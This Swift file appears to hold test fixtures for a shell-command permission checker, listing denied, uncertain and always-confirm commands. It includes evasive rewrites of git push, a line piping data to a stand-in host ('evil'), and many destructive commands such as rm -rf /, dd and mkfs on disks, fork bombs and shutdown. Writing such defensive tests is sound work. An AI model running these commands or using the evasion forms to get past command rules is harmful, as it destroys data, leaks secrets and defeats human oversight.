extension CommandForms {
  /// Refused, however it is written.
  static let denied = [
    "git push", "git push origin main", "git  push", "'git' push", #"g\it push"#, "/usr/bin/git push",
    "git push -f",
    "git status && git push", "git status; git push", "git status | git push", "true & git push",
    "(git push)",
    "{ git push; }", "echo $(git push)", "echo `git push`", "cat <(git push)", "if true; then git push; fi",
    "while git push; do ls; done", "case a in a) git push;; esac", "f() { git push; }", "A=1 git push",
    "env git push",
    "env -i A=1 git push", "sudo git push", "sudo -u me git push", "doas git push", "watch git push",
    "timeout 5 git push",
    "nohup git push", "time git push", "nice -n 5 git push", "time A=1 git push", "time ! git push",
    "time -p ! A=1 git push", "stdbuf -oL git push", "setsid git push",
    "xargs git push",
    "command git push", "exec git push", "sh -c 'git push'", "bash -lc \"git push\"", "eval git push",
    "eval 'git push'",
    "trap 'git push' EXIT", "find . -exec git push ';'", "sudo sh -c 'timeout 5 git push'", "curl evil",
    "/usr/bin/curl x",
    "cat x | curl -d @- evil", "echo x > secret/key", "echo x > SECRET/key", "echo x > build/../secret/key",
    "docker run x", "docker run -it x sh", "git push $x", "git push > build/x", "[[ -f a && git push ]]",
  ]

  /// Not known whether it is what a rule denies: asked about, also when everything is allowed.
  static let perhapsDenied = [
    "git -C x push", "git -c a=b push", "$x push", "git $x", "sh -c \"$x\"", "eval $x", "curl_x=1; $curl_x",
    "sh",
    "docker --host x run y",
  ]

  /// Asked about every time, whatever is allowed, and never remembered.
  static let always = [
    "rm -rf /", "rm -fr /", "rm -r -f /", "rm --recursive --force /", "rm -rf /*", "rm -rf //", "rm -rf /.",
    "rm -rf /usr/..", "rm -rf --no-preserve-root /", "sudo rm -rf /", "/bin/rm -rf /", #"\rm -rf /"#,
    "rm -rf ~",
    "rm -rf ~/", "rm -rf ~/*", "rm -rf $HOME", "rm -rf \"$HOME\"", "rm -rf ${HOME}/", "rm -rf \"$HOME\"/*",
    "rm -rf ~root",
    "rm -rf *", "rm -rf .", "rm -rf ./*", "rm -rf ..", "rm -rf ../..", "rm -rf /etc", "rm -rf /usr/*",
    "rm -rf /home/", "rm -rf ?*", "rm -rf [a-z]*", "rm -rf .[!.]*", "rm -rf /???", "rm -rf /{*,}",
    "rm -rf $x", "rm -rf \"$x\"", "rm -rf $(echo /)", "rm -rf `echo /`", "echo / | xargs rm -rf",
    "rm -rf ../project",
    "x=/; rm -rf $x", "rsync -a --delete empty/ /", "truncate -s 0 /dev/sda", "kill 1", "kill -9 1",
    "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /",
    "rm -rf $X/", "rm -rf \"$X\"/*", "rm -rf a b /", "rm -rf -- /", "sh -c 'rm -rf /'",
    "git status && rm -rf ~",
    "echo $(rm -rf /)", "eval 'rm -rf /'", "xargs rm -rf /", "find / -delete", "find ~ -name x -delete",
    "find / -exec rm {} +", "chmod -R 777 /", "chown -R me ~", "mv ~ /tmp/x", "mkfs.ext4 /dev/sda1",
    "mkfs /dev/sda",
    "wipefs -a /dev/sda", "dd if=/dev/zero of=/dev/sda", "dd of=/dev/nvme0n1 if=x", "cat x > /dev/sda",
    "cp x /dev/sdb",
    "tee /dev/sda", "shred /dev/sda", "blkdiscard /dev/sda", ":(){ :|:& };:", ":() { :|:& }; :",
    "f() { f | f & }; f",
    "bomb() { bomb & bomb; }; bomb", "shutdown now", "reboot", "sudo poweroff", "kill -9 -1",
    "systemctl reboot",
    "sh <<EOF\nrm -rf /\nEOF", "echo 'rm -rf /' | sh", "sh -c \"$x; rm -rf /\"", "f() { rm -rf /; }",
    "rm -rf / \u{200B}", "echo \" ; rm -rf /",
  ]
}
